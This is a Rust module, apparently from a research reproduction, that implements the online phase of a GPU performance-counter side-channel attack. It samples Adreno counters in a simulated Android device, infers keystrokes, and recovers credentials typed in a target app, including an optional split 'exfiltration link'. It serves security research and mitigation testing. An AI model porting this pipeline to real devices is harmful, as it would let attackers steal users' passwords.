//! The attacking application's background service (§3.2 "Online Phase").
//!
//! Runs the full pipeline end to end. Its one driver,
//! [`AttackService::eavesdrop`], is *streaming*: each counter read goes
//! through the pipeline as it lands, so no full session trace is ever
//! materialised and every key press is committed the moment the evidence
//! suffices (see each [`InferredKey::decided_at`]). The pipeline is a
//! [`StreamingSession`], and each step is a plain call on what the step
//! before it emitted:
//!
//! 1. [`Sampler::next_sample`] — one counter read at a time;
//! 2. [`DeltaStage::push`] — a read → the counter change it shows, if
//!    any, re-anchoring resets;
//! 3. [`RecognizeStage::push`] — holds the warm-up prefix until a change
//!    matches a preloaded model's fingerprint, then hands the prefix back
//!    with the model; every later change bypasses it (§3.2);
//! 4. [`LaunchGate::push`] — passes a change on or swallows it: optionally
//!    everything up to the target app's cold-launch burst (§3.2);
//! 5. [`SwitchStage::push`] — drops changes produced outside the target
//!    app and forwards each typing change, with the return to the target
//!    app it resolved, which re-anchors the blink grid first (§5.2);
//! 6. [`InferStage::push`] — Algorithm 1: the press a typing change
//!    decided and the noise it dismissed (§5.1);
//! 7. [`CorrectionStage::push`] — backspace/length tracking over the noise
//!    stream, applied at end of session (§5.3).
//!
//! When the stream ends, the switch filter, inference and correction flush
//! in that order.
//!
//! Between two reads a session holds only its own state: each stage's
//! bounded state, the warm-up prefix until recognition matches, and a
//! borrow of its model. No read, change or signature is staged or copied
//! on its way through.
//!
//! [`AttackService::streaming_session`] is the same pipeline without the
//! sampler, for a remote process (the wire layer's classifier server) that
//! receives its samples off a transport. `tests/pipeline_digests.rs` pins
//! what the pipeline returns on a fixed matrix of sessions.

use adreno_sim::time::SimInstant;
use android_ui::UiSimulation;
use kgsl::Errno;
use std::borrow::Borrow;
use std::fmt;

use crate::appswitch::SwitchStage;
use crate::classify::{ClassifierModel, ModelMeta};
use crate::correction::{CorrectedKeys, CorrectionEvent, CorrectionStage};
use crate::launch::LaunchGate;
use crate::metrics::{score_session, SessionScore};
use crate::offline::{ModelStore, RecognizeStage};
use crate::online::{InferEvent, InferStage, InferenceStats, InferredKey};
use crate::sampler::{SampleStream, Sampler, SamplerConfig, SamplerReport};
use crate::trace::{Delta, DeltaStage, Sample};

/// Reads per step of the in-process loop ([`AttackService::eavesdrop`]),
/// which is one scheduler quantum of a fleet session: ~0.5 s of sim time at
/// the 8 ms read interval. Each read goes through the pipeline as it lands,
/// so a burst is never held anywhere; its length sets only how often a
/// fleet session yields, and so its `quanta` count, never an outcome.
const SAMPLE_BURST: usize = 64;

/// Service configuration.
#[derive(Debug, Clone, Default)]
pub struct ServiceConfig {
    /// Counter-sampling loop configuration.
    pub sampler: SamplerConfig,
    /// Use the one-change-lookahead variant of Algorithm 1 — accuracy over
    /// timeliness (§5.1 trade-off). Despite the name this no longer buffers
    /// the full trace: [`InferStage::lookahead`] holds exactly one change.
    pub full_trace: bool,
    /// Only start inferring after the target app's cold-launch burst is
    /// observed (§3.2: the monitoring service arms itself at launch). When
    /// no launch is seen the session fails with
    /// [`ServiceError::LaunchNotDetected`].
    pub require_launch: bool,
    /// Extension beyond the paper: drop inferred presses that no text echo
    /// corroborates. Every real key press commits a character and therefore
    /// produces a field-redraw echo within ~half a second; popup-shaped
    /// system noise does not. Off by default so the stock pipeline matches
    /// the paper; the `ablate-corroboration` experiment quantifies it.
    pub echo_corroboration: bool,
}

/// Errors from an eavesdropping session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ServiceError {
    /// The device file refused (mitigations, closed fd, …).
    Device(Errno),
    /// No preloaded model matched the observed device (§3.2 recognition
    /// failed).
    UnrecognisedDevice,
    /// `require_launch` was set but the target app never launched.
    LaunchNotDetected,
    /// The session pinned a model by content digest (wire `Hello`) but no
    /// loaded model has that digest — a registry mismatch surfaced as a
    /// typed error instead of silently misclassifying with the wrong model.
    ModelDigestMismatch(crate::registry::ModelDigest),
}

impl fmt::Display for ServiceError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ServiceError::Device(e) => write!(f, "device error: {e}"),
            ServiceError::UnrecognisedDevice => write!(f, "no preloaded model matches this device"),
            ServiceError::LaunchNotDetected => write!(f, "target app launch was not observed"),
            ServiceError::ModelDigestMismatch(digest) => {
                write!(f, "no loaded model has digest {digest}")
            }
        }
    }
}

impl std::error::Error for ServiceError {}

impl From<Errno> for ServiceError {
    fn from(e: Errno) -> Self {
        ServiceError::Device(e)
    }
}

/// How much the session was degraded by device faults — the difference
/// between the credential the service *recovered* and the one it *could*
/// have recovered on a quiet device.
#[derive(Debug, Default, Clone, Copy, PartialEq)]
pub struct DegradationReport {
    /// Device faults observed (transients, denials, revocations,
    /// reservation losses).
    pub faults_seen: u64,
    /// Retry attempts the sampler spent recovering.
    pub retries_spent: u64,
    /// Read slots abandoned after their retry budget.
    pub reads_lost: u64,
    /// Successful reopen + re-reserve cycles after fd revocations.
    pub fd_reopens: u64,
    /// Successful re-reservation passes after the device forgot us.
    pub reservations_reacquired: u64,
    /// Backward counter jumps (GPU slumbers) the delta extractor
    /// re-anchored across.
    pub counter_resets: u64,
    /// Fraction of attempted read slots that produced a sample.
    pub coverage: f64,
}

impl DegradationReport {
    fn from_sampler(report: &SamplerReport, counter_resets: usize) -> Self {
        DegradationReport {
            faults_seen: report.faults_seen(),
            retries_spent: report.retries_spent,
            reads_lost: report.abandoned,
            fd_reopens: report.fd_reopens,
            reservations_reacquired: report.reservations_reacquired,
            counter_resets: counter_resets as u64,
            coverage: report.coverage(),
        }
    }

    /// Whether the session ran fault-free at full coverage.
    pub fn is_clean(&self) -> bool {
        self.faults_seen == 0 && self.counter_resets == 0 && self.reads_lost == 0
    }
}

impl fmt::Display for DegradationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "faults={} retries={} lost={} reopens={} rereservations={} resets={} coverage={:.1}%",
            self.faults_seen,
            self.retries_spent,
            self.reads_lost,
            self.fd_reopens,
            self.reservations_reacquired,
            self.counter_resets,
            self.coverage * 100.0
        )
    }
}

/// How much the session was degraded by the *exfiltration link*, when the
/// sampler and classifier ran as separate processes over a lossy transport
/// (see the `wire` crate). All-zero — the [`Default`] — for in-process
/// sessions.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct LinkDegradationReport {
    /// Data frames transmitted, including retransmissions.
    pub frames_sent: u64,
    /// Frames retransmitted after an ack timeout.
    pub retransmits: u64,
    /// Frames the transport dropped in flight.
    pub frames_dropped: u64,
    /// Frames the receiver discarded as corrupt (CRC mismatch or
    /// truncation).
    pub frames_corrupt: u64,
    /// Duplicate frames the receiver discarded by sequence number.
    pub duplicates_discarded: u64,
    /// Frames that arrived out of sequence order and were buffered or
    /// dropped for resequencing.
    pub reorders_observed: u64,
    /// Payload bytes handed to the transport, including retransmissions.
    pub bytes_sent: u64,
    /// Payload bytes the peer cumulatively acknowledged.
    pub bytes_acked: u64,
}

impl LinkDegradationReport {
    /// Whether the link delivered everything first try: nothing dropped,
    /// corrupted, duplicated, reordered, or retransmitted.
    pub fn is_clean(&self) -> bool {
        self.retransmits == 0
            && self.frames_dropped == 0
            && self.frames_corrupt == 0
            && self.duplicates_discarded == 0
            && self.reorders_observed == 0
    }
}

impl fmt::Display for LinkDegradationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "sent={} retx={} dropped={} corrupt={} dups={} reorders={} \
             bytes={}/{} acked",
            self.frames_sent,
            self.retransmits,
            self.frames_dropped,
            self.frames_corrupt,
            self.duplicates_discarded,
            self.reorders_observed,
            self.bytes_acked,
            self.bytes_sent,
        )
    }
}

/// The result of one eavesdropping session.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionResult {
    /// Which preloaded model the recognition step selected.
    pub model: ModelMeta,
    /// Inferred key presses, time-ordered, after removing presses undone by
    /// detected backspaces.
    pub keys: Vec<InferredKey>,
    /// Every inferred press *including* the ones later excluded because a
    /// backspace deleted them. Per-key accuracy is measured against these:
    /// a corrected typo was still correctly eavesdropped (§5.3 merely keeps
    /// it out of the recovered credential).
    pub keys_before_corrections: Vec<InferredKey>,
    /// The recovered credential text.
    pub recovered_text: String,
    /// Algorithm 1 statistics (Fig 11 taxonomy).
    pub stats: InferenceStats,
    /// Echo-stream events (additions / deletions / blinks).
    pub corrections: Vec<CorrectionEvent>,
    /// App-switch bursts detected.
    pub switches: usize,
    /// When the target app's launch burst was observed (None when the
    /// session did not gate on launch).
    pub launch_at: Option<adreno_sim::time::SimInstant>,
    /// What the session survived. A faulty device degrades the result
    /// (partial trace, lost windows) rather than failing the session; this
    /// report says by how much.
    pub degradation: DegradationReport,
    /// What the exfiltration link survived, when the session ran split
    /// across a transport (all-zero for in-process sessions).
    pub link: LinkDegradationReport,
}

impl SessionResult {
    /// Scores the session against a simulation's ground truth: per-key
    /// accuracy over every true press (matched against the inference
    /// *before* correction-exclusion — a corrected typo was still correctly
    /// eavesdropped), text exactness over the recovered credential.
    pub fn score(&self, sim: &UiSimulation) -> SessionScore {
        let truth = sim.truth();
        score_session(
            &truth.keystrokes(),
            &truth.final_text(),
            &self.keys_before_corrections,
            &self.recovered_text,
        )
    }
}

/// Everything downstream of device recognition, constructed once the
/// session knows its model (the stages need its signatures and centroids).
struct PostRecognition<'s> {
    model: &'s ClassifierModel,
    launch: LaunchGate,
    switch: SwitchStage,
    infer: InferStage<'s>,
    correction: CorrectionStage<'s>,
    /// The presses the latest push committed (see
    /// [`StreamingSession::new_keys`]); each push replaces them.
    new_keys: Vec<InferredKey>,
}

impl<'s> PostRecognition<'s> {
    fn new(model: &'s ClassifierModel, config: &ServiceConfig) -> Self {
        let launch = if config.require_launch {
            LaunchGate::armed(*model.launch_signature())
        } else {
            LaunchGate::open()
        };
        let infer = if config.full_trace {
            InferStage::lookahead(model)
        } else {
            InferStage::greedy(model)
        };
        PostRecognition {
            model,
            launch,
            switch: SwitchStage::new(model.switch_threshold()),
            infer,
            correction: CorrectionStage::new(model.ambient_signatures(), config.echo_corroboration),
            new_keys: Vec::new(),
        }
    }

    /// Pushes one recognised change through launch gate → switch filter →
    /// inference → correction tracking.
    fn push_change(&mut self, delta: Delta) {
        let Some(delta) = self.launch.push(delta) else { return };
        let (returned, typing) = self.switch.push(delta);
        if let Some(at) = returned {
            self.correction.push_return(at);
        }
        let Some(typing) = typing else { return };
        for event in self.infer.push(typing) {
            if let InferEvent::Key(key) = event {
                self.new_keys.push(key);
            }
            self.correction.push(event);
        }
    }
}

/// The attacking service.
#[derive(Debug)]
pub struct AttackService {
    store: ModelStore,
    config: ServiceConfig,
}

impl AttackService {
    /// Creates a service with preloaded models.
    pub fn new(store: ModelStore, config: ServiceConfig) -> Self {
        AttackService { store, config }
    }

    /// The preloaded model store.
    pub fn store(&self) -> &ModelStore {
        &self.store
    }

    /// The service configuration (the wire layer's split driver shares the
    /// sampler half with its on-device client).
    pub fn config(&self) -> &ServiceConfig {
        &self.config
    }

    /// Eavesdrops the victim simulation until `until` and recovers the
    /// credential typed in the target app.
    ///
    /// This is the streaming driver: each counter read is pushed through
    /// the stage pipeline as it lands, so the full session trace is never
    /// materialised and every [`InferredKey::decided_at`] records when the
    /// pipeline actually committed to the press.
    ///
    /// Device faults degrade gracefully: transient errors are retried,
    /// revoked fds reopened, lost reservations re-acquired, and counter
    /// resets re-anchored. A partial trace yields a partial
    /// [`SessionResult`] whose [`DegradationReport`] says what was lost.
    ///
    /// # Errors
    ///
    /// * [`ServiceError::Device`] only when the session never acquired a
    ///   single sample — e.g. the §9 mitigations denying everything from
    ///   the start;
    /// * [`ServiceError::UnrecognisedDevice`] when no preloaded model
    ///   matches.
    pub fn eavesdrop(
        &self,
        sim: &mut UiSimulation,
        until: SimInstant,
    ) -> Result<SessionResult, ServiceError> {
        let mut session_span = spansight::span("core", "service.eavesdrop");
        session_span.sim_range(sim.now().as_nanos(), until.as_nanos());
        let mut driver = LocalDriver::open(self, sim, until)?;
        while !driver.step(sim) {}
        driver.finish(sim)
    }

    /// Begins an incremental analysis session: the push-based half of
    /// [`AttackService::eavesdrop`], decoupled from the sampler so a remote
    /// process (the wire layer's classifier server) can feed it samples as
    /// they arrive off a transport.
    pub fn streaming_session(&self) -> StreamingSession<'_> {
        StreamingSession::new(&self.config, Phase::Recognizing(RecognizeStage::new(&self.store)))
    }

    /// Begins an incremental session pinned to the model with the given
    /// content digest — the wire path, where the client's `Hello` names its
    /// model by digest and recognition is skipped entirely.
    ///
    /// # Errors
    ///
    /// [`ServiceError::ModelDigestMismatch`] when no loaded model has that
    /// digest: the mismatch is a typed, attributable failure instead of a
    /// session silently classified with the wrong model.
    pub fn streaming_session_for(
        &self,
        digest: &crate::registry::ModelDigest,
    ) -> Result<StreamingSession<'_>, ServiceError> {
        let model = self
            .store
            .find_digest(digest)
            .ok_or(ServiceError::ModelDigestMismatch(*digest))?
            .model();
        // Nothing is left to recognise, so the stages behind recognition
        // start now. Recognition would hand them its whole warm-up prefix
        // on the first match, so they see the same changes either way.
        let post = PostRecognition::new(model, &self.config);
        Ok(StreamingSession::new(&self.config, Phase::Recognized(Box::new(post))))
    }
}

/// The in-process burst loop, one step at a time: the sampler, its stream
/// and the pipeline of one session, which takes each read as it lands.
/// [`AttackService::eavesdrop`] steps it until the stream ends; a
/// [`crate::fleet::FleetSession`] steps it once per scheduler quantum. The
/// wire layer's `SplitDriver` is the same loop with a transport between
/// sampler and pipeline.
pub(crate) struct LocalDriver<'s> {
    sampler: Sampler,
    stream: SampleStream,
    session: StreamingSession<'s>,
}

impl<'s> LocalDriver<'s> {
    /// Opens the sampler on `sim`'s device, starts its stream to `until`
    /// and the service's pipeline; fails when the device refuses to open.
    pub(crate) fn open(
        service: &'s AttackService,
        sim: &UiSimulation,
        until: SimInstant,
    ) -> Result<Self, ServiceError> {
        let mut sampler = Sampler::open(sim.device(), service.config.sampler)?;
        let stream = sampler.start_stream(sim, until);
        Ok(LocalDriver { sampler, stream, session: service.streaming_session() })
    }

    /// Reads a burst of up to [`SAMPLE_BURST`] samples, each pushed through
    /// the pipeline as it lands. Returns true once a short burst has ended
    /// the stream.
    pub(crate) fn step(&mut self, sim: &mut UiSimulation) -> bool {
        let LocalDriver { sampler, stream, session } = self;
        let mut read = 0;
        let burst = std::iter::from_fn(|| sampler.next_sample(stream, sim)).take(SAMPLE_BURST);
        session.push_samples(burst.inspect(|_| read += 1));
        read < SAMPLE_BURST
    }

    /// Closes the sampler and assembles the session result.
    pub(crate) fn finish(self, sim: &UiSimulation) -> Result<SessionResult, ServiceError> {
        let LocalDriver { mut sampler, stream, session } = self;
        let finished = sampler.finish_stream(stream);
        let report = sampler.report();
        sampler.close(sim.device());
        finished?;
        session.finish(&report)
    }
}

/// An in-flight incremental analysis session (see
/// [`AttackService::streaming_session`]): the whole pipeline, from delta
/// extraction and device recognition to everything model-dependent behind
/// it.
///
/// Push samples in timestamp order, read the presses each push committed
/// (the wire layer streams them back to the sampler side for latency
/// measurement), and finish with the sampler's report to assemble the
/// [`SessionResult`].
pub struct StreamingSession<'s> {
    config: &'s ServiceConfig,
    delta: DeltaStage,
    phase: Phase<'s>,
}

/// Where a session's changes go after extraction: into recognition until a
/// model is known, then through the stages that model configures.
enum Phase<'s> {
    Recognizing(RecognizeStage<'s>),
    Recognized(Box<PostRecognition<'s>>),
}

impl<'s> StreamingSession<'s> {
    fn new(config: &'s ServiceConfig, phase: Phase<'s>) -> Self {
        StreamingSession { config, delta: DeltaStage::new(), phase }
    }

    /// Feeds samples (in timestamp order) through the pipeline, each change
    /// as soon as it is extracted: a slice of reads, or the reads of a
    /// sampler as they land. Any split of a sample sequence into pushes
    /// gives the same result. The wire layer's classifier server pushes
    /// each read it receives.
    pub fn push_samples<S: Borrow<Sample>>(&mut self, samples: impl IntoIterator<Item = S>) {
        if let Phase::Recognized(post) = &mut self.phase {
            post.new_keys.clear();
        }
        for sample in samples {
            if let Some(delta) = self.delta.push(sample.borrow()) {
                self.push_change(delta);
            }
        }
    }

    /// Moves one change on: straight through the model's stages once it is
    /// known, into recognition's warm-up buffer until then, and on the
    /// match through the new stages with the whole prefix it ends.
    fn push_change(&mut self, delta: Delta) {
        match &mut self.phase {
            Phase::Recognized(post) => post.push_change(delta),
            Phase::Recognizing(recognize) => {
                let Some((model, prefix)) = recognize.push(delta) else { return };
                let mut post = Box::new(PostRecognition::new(model, self.config));
                for delta in prefix {
                    post.push_change(delta);
                }
                self.phase = Phase::Recognized(post);
            }
        }
    }

    /// The presses the latest [`StreamingSession::push_samples`] committed,
    /// in commit order. Concatenated over every push they equal
    /// `keys_before_corrections` of the final result (corrections are only
    /// applied at session end).
    pub fn new_keys(&self) -> &[InferredKey] {
        match &self.phase {
            Phase::Recognized(post) => &post.new_keys,
            Phase::Recognizing(_) => &[],
        }
    }

    /// Flushes every stage and assembles the session result. The switch
    /// filter, inference and correction flush in that order.
    ///
    /// # Errors
    ///
    /// [`ServiceError::UnrecognisedDevice`] /
    /// [`ServiceError::LaunchNotDetected`] as in
    /// [`AttackService::eavesdrop`]; never [`ServiceError::Device`] (the
    /// device is out of the picture by now).
    pub fn finish(self, report: &SamplerReport) -> Result<SessionResult, ServiceError> {
        self.delta.finish();
        let Phase::Recognized(post) = self.phase else {
            return Err(ServiceError::UnrecognisedDevice);
        };
        let PostRecognition { model, launch, mut switch, mut infer, mut correction, .. } = *post;
        if let Some(at) = switch.finish() {
            correction.push_return(at);
        }
        for event in infer.finish() {
            correction.push(event);
        }
        let launch_at = launch.launch_at();
        if self.config.require_launch && launch_at.is_none() {
            return Err(ServiceError::LaunchNotDetected);
        }
        let CorrectedKeys { keys, keys_before_corrections, corrections } =
            correction.into_corrected();
        let recovered_text: String = keys.iter().map(|k| k.ch).collect();
        spansight::count("core.service.sessions", 1);
        spansight::count("core.service.keys_inferred", keys.len() as u64);
        Ok(SessionResult {
            model: *model.meta(),
            keys,
            keys_before_corrections,
            recovered_text,
            stats: infer.stats(),
            corrections,
            switches: switch.switches_detected(),
            launch_at,
            degradation: DegradationReport::from_sampler(report, self.delta.resets()),
            link: LinkDegradationReport::default(),
        })
    }
}

#[cfg(test)]
mod tests {
    // End-to-end service tests need a trained model and live in
    // `tests/attack_e2e.rs` and `tests/pipeline_digests.rs`; unit tests
    // here cover the error plumbing.
    use super::*;

    #[test]
    fn empty_store_is_unrecognised() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(1));
        let err = service.eavesdrop(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::UnrecognisedDevice);
    }

    #[test]
    fn mitigated_device_reports_device_error() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(2));
        sim.device().set_policy(kgsl::AccessPolicy::DenyAll);
        let err = service.eavesdrop(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::Device(Errno::Eacces));
    }

    #[test]
    fn a_push_holds_only_the_presses_it_committed() {
        use crate::offline::{Trainer, TrainerConfig};
        use adreno_sim::time::SimDuration;
        use rand::SeedableRng;

        let cfg = android_ui::SimConfig::paper_default(3);
        let mut store = ModelStore::new();
        store.add(Trainer::new(TrainerConfig::default()).train(cfg.device, cfg.keyboard, cfg.app));
        let service = AttackService::new(store, ServiceConfig::default());
        let mut sim = UiSimulation::new(cfg);
        let mut rng = rand::rngs::StdRng::seed_from_u64(3);
        let typed = input_bot::script::Typist::new(input_bot::timing::VOLUNTEERS[0]).type_text(
            "correcthorsebatterystaple",
            SimInstant::from_millis(900),
            &mut rng,
        );
        sim.queue_all(typed.events);
        let end = typed.end + SimDuration::from_millis(800);
        let mut sampler = Sampler::open(sim.device(), SamplerConfig::default()).expect("opens");
        let trace = sampler.sample_until(&mut sim, end).expect("a stock device reads");

        // One read per push, as the wire server pushes them: had the
        // session kept earlier pushes' presses, a press would be streamed
        // again at every later push.
        let mut session = service.streaming_session();
        let mut streamed = Vec::new();
        for read in trace.samples() {
            session.push_samples(std::slice::from_ref(read));
            streamed.extend_from_slice(session.new_keys());
        }
        let result = session.finish(&sampler.report()).expect("the session analyses");
        assert!(result.keys_before_corrections.len() >= 20, "test premise: a long session");
        assert_eq!(streamed, result.keys_before_corrections, "each press streams once");
    }

    #[test]
    fn errors_display() {
        assert!(ServiceError::UnrecognisedDevice.to_string().contains("no preloaded model"));
        assert!(ServiceError::Device(Errno::Eacces).to_string().contains("EACCES"));
    }
}
